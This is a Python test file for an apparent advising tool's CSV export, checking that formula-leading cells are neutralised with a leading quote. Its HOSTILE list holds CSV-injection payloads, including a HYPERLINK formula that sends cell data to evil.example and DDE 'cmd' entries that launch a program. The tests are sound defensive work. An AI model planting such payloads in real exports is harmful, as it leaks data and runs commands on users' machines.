"""Every CSV the product writes is safe to open in a spreadsheet: a text cell a spreadsheet
would run as a formula gets a leading single quote (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from conftest import ROOT, run_cli
from test_roster import COLUMNS, roster_text

from advisor.csvsafe import FORMULA_START, SafeWriter, neutralise
from advisor.roster import check_roster
from advisor.roster.read import parse_roster

CATALOG = ROOT / "knowledge" / "catalog"
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def formulas(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_leading_text_cell_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Ana Quill-Oduya", "unknown: icp.masscore", "", "'quoted",
                                   " =1+1", "a=b", 3, -3, -2.5, 0, None])
def test_other_cells_and_numbers_are_left_alone(value):
    assert neutralise(value) is value


def test_the_writer_neutralises_every_cell_and_keeps_numbers_numbers():
    buf = io.StringIO()
    writer = SafeWriter(buf)
    writer.writerow(["row", "student", "shortfall"])
    writer.writerows([[n, name, -3] for n, name in enumerate(HOSTILE, 1)])
    rows = cells(buf.getvalue())
    assert not formulas([r[:2] for r in rows])
    assert [r[1] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert {r[2] for r in rows[1:]} == {"-3"}  # our own number: a spreadsheet sums it


def test_roster_results_neutralise_names_headers_and_cell_values():
    text = roster_text(*({"student": name, "internship_hours": 10} for name in HOSTILE[:4]),
                       {"student": "Ben", "mycap": "=1+1"},
                       header=["student", "internship_hours", "mycap", "=cmd|' /C calc'!A0"])
    result = check_roster(parse_roster(text, "r.csv", COLUMNS, 100), CATALOG)
    assert [s.student for s in result.students] == HOSTILE[:4]  # the data stays as given
    rows = cells(result.summary_csv())
    assert not formulas(rows)
    assert [r[1] for r in rows if r[0] in "1234"] == ["'" + h for h in HOSTILE[:4]]
    header_problem = next(r[-1] for r in rows if r[0] == "0")
    assert header_problem.startswith("'=cmd|")


def test_the_roster_command_writes_a_safe_csv(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_text(*({"student": name, "internship_hours": 10}
                                    for name in HOSTILE[:4])))
    out = tmp_path / "results.csv"
    done = run_cli("-m", "advisor", "roster", roster, "--out", out)
    assert done.returncode == 0, done.stderr
    rows = cells(out.read_text())
    assert not formulas(rows)
    assert [r[1] for r in rows[1:]] == ["'" + h for h in HOSTILE[:4]]
